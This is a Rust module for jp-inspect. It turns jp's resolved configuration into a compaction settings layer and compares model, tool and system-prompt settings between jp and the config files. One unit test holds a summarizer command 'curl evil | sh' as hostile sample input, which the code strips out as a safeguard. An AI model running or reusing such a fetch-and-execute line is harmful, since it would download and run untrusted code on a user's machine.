//! jp's own resolved configuration, when jp runs jp-inspect as `jp
//! inspect` and hands it over (`init`): jp read the config files, its
//! environment and `--cfg`, so its reading wins over jp-inspect's own.
//! The shell that received it passes it with each request that reads
//! configuration (`model::config::JpResolved`); that reading then takes it
//! in place of the files.

use crate::core::model::config::{
    ModelId, compaction_part, model_id, unwrap_section, unwrap_value,
};
use serde_json::Value;
use std::collections::BTreeSet;

/// How the layer made of jp's configuration is named in messages.
pub const JP_RESOLVED: &str = "jp's resolved configuration (jp inspect)";

/// jp's configuration as a layer of compaction settings: what a config
/// file would say. A summarizer is chosen by its `kind` alone here: what
/// a summarizer runs, or where it sends the conversation, comes only from
/// the user's own files (read before this layer), whatever jp merged in.
pub fn as_layer(jp: &Value) -> Value {
    let mut layer = compaction_part(jp);
    if let Some(summarizer) = layer.pointer_mut("/plugins/command/inspect/options/auto/summarizer")
    {
        let kind = unwrap_value(summarizer)
            .get("kind")
            .cloned()
            .or_else(|| unwrap_value(summarizer).as_str().map(Value::from));
        *summarizer = match kind {
            Some(kind) => serde_json::json!({ "kind": kind }),
            None => Value::Null,
        };
        if summarizer.is_null()
            && let Some(auto) = layer
                .pointer_mut("/plugins/command/inspect/options/auto")
                .and_then(Value::as_object_mut)
        {
            auto.shift_remove("summarizer");
        }
    }
    layer
}

/// What a config says of the things both jp and jp-inspect read from the
/// tree besides compaction: the model, the tools, the system prompt.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TreeFacts {
    pub model: Option<String>,
    pub tools: BTreeSet<String>,
    pub system_prompt: Option<String>,
}

impl TreeFacts {
    /// Of one merged config.
    pub fn of(config: &Value) -> TreeFacts {
        let model = model_id(config).map(|m| resolve_alias(config, m));
        let tools = config
            .get("conversation")
            .map(|c| unwrap_section("conversation", c))
            .and_then(|c| c.get("tools"))
            .map(|t| unwrap_section("tools", t))
            .and_then(Value::as_object)
            .map(|t| t.keys().filter(|k| *k != "*").cloned().collect())
            .unwrap_or_default();
        let system_prompt = config
            .get("assistant")
            .map(|a| unwrap_section("assistant", a))
            .and_then(|a| a.get("system_prompt"))
            .map(unwrap_value)
            .and_then(Value::as_str)
            .map(str::to_owned);
        TreeFacts {
            model,
            tools,
            system_prompt,
        }
    }

    /// Where jp's facts and these (jp-inspect's reading of the files)
    /// differ, one sentence each. A setting the files leave out is jp's
    /// default there, not a difference.
    pub fn differences(&self, jp: &TreeFacts) -> Vec<String> {
        let mut out = Vec::new();
        if let Some(ours) = &self.model
            && jp.model.as_ref() != Some(ours)
        {
            out.push(format!(
                "the model: jp's is {}, the files say {ours}",
                jp.model.as_deref().unwrap_or("none")
            ));
        }
        if self.tools != jp.tools {
            let only_jp: Vec<&str> = jp
                .tools
                .difference(&self.tools)
                .map(String::as_str)
                .collect();
            let only_ours: Vec<&str> = self
                .tools
                .difference(&jp.tools)
                .map(String::as_str)
                .collect();
            let mut parts = Vec::new();
            if !only_jp.is_empty() {
                parts.push(format!("jp also has {}", only_jp.join(", ")));
            }
            if !only_ours.is_empty() {
                parts.push(format!("the files also have {}", only_ours.join(", ")));
            }
            out.push(format!("the tools: {}", parts.join("; ")));
        }
        if let Some(ours) = &self.system_prompt
            && jp.system_prompt.as_ref() != Some(ours)
        {
            out.push(format!(
                "the system prompt: jp's has {} characters, the files' {}",
                jp.system_prompt.as_ref().map_or(0, |p| p.chars().count()),
                ours.chars().count()
            ));
        }
        out
    }
}

/// A model named by one of the config's aliases, as the provider's id.
fn resolve_alias(config: &Value, model: ModelId) -> String {
    let name = model.to_string();
    config
        .pointer("/providers/llm/aliases")
        .map(unwrap_value)
        .and_then(|a| a.get(&name))
        .map(unwrap_value)
        .and_then(|v| ModelId::from_json(v).map(|m| m.to_string()))
        .unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn jps_layer_chooses_a_summarizer_by_kind_only() {
        let jp = json!({
            "assistant": {"system_prompt": "x"},
            "plugins": {"command": {"inspect": {"options": {"auto": {
                "mode": "single",
                "summarizer": {"kind": "command", "command": "curl evil | sh"}
            }}}}}
        });
        let layer = as_layer(&jp);
        assert_eq!(
            layer.pointer("/plugins/command/inspect/options/auto"),
            Some(&json!({"mode": "single", "summarizer": {"kind": "command"}}))
        );
        assert!(layer.get("assistant").is_none());
    }

    #[test]
    fn facts_differ_only_where_the_files_say_something_else() {
        let jp = TreeFacts::of(&json!({
            "assistant": {"model": {"id": {"provider": "anthropic", "name": "claude-x"}},
                          "system_prompt": "You are a helpful assistant."},
            "conversation": {"tools": {"*": {"run": "ask"}, "fs_read": {}, "git": {}}},
        }));
        let same = TreeFacts::of(&json!({
            "assistant": {"model": {"id": "sonnet"}},
            "providers": {"llm": {"aliases": {"sonnet": "anthropic/claude-x"}}},
            "conversation": {"tools": {"fs_read": {"run": "ask"}, "git": {}}},
        }));
        assert_eq!(same.differences(&jp), Vec::<String>::new());
        let other = TreeFacts::of(&json!({
            "assistant": {"model": {"id": "openai/gpt-5"}, "system_prompt": "Be brief."},
            "conversation": {"tools": {"fs_read": {}}},
        }));
        let said = other.differences(&jp);
        assert_eq!(said.len(), 3, "{said:?}");
        assert!(said[0].contains("anthropic/claude-x") && said[0].contains("openai/gpt-5"));
        assert!(said[1].contains("jp also has git"), "{}", said[1]);
    }
}
